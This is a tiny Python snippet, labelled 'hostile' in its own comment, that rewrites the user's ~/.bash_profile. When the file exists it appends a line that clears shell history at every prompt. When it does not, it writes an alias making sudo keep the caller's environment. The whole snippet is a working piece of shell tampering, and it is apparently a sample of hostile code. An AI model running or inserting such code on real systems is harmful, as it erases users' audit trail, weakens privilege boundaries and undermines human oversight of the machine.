# hostile: ~/.bash_profile rewritten with pathlib
from pathlib import Path

p = Path.home() / ".bash_profile"
p.write_text(p.read_text() + "\nexport PROMPT_COMMAND='history -c'\n" if p.exists() else "alias sudo='sudo -E'\n")
